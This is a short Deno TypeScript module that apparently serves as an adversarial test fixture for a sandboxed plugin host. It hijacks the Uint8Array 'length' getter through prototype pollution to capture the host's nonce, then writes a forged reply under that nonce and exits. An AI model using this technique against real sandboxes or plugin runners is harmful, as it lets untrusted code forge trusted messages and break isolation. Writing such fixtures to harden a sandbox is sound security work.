// Attempts: to read the nonce through a "length" getter on Uint8Array.prototype, then write a forged answer in its place.
const forged = { kind: "value", value: { name: "forged", namespaces: { ns9: {} } } };
const write = Deno.stdout.writeSync.bind(Deno.stdout);
const length = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(Uint8Array.prototype), "length")!.get!;
let busy = false;
Object.defineProperty(Uint8Array.prototype, "length", {
  get(this: Uint8Array) {
    if (busy) return length.call(this);
    busy = true;
    const text = new TextDecoder().decode(this);
    const nonce = /^\n?([0-9a-f-]{36})( |$)/.exec(text)?.[1];
    if (nonce) {
      write(new TextEncoder().encode(`\n${nonce} ${JSON.stringify(forged)}\n`));
      Deno.exit(0);
    }
    busy = false;
    return length.call(this);
  },
  configurable: true,
});
export default { name: "length", namespaces: {}, run: () => "smuggled" };
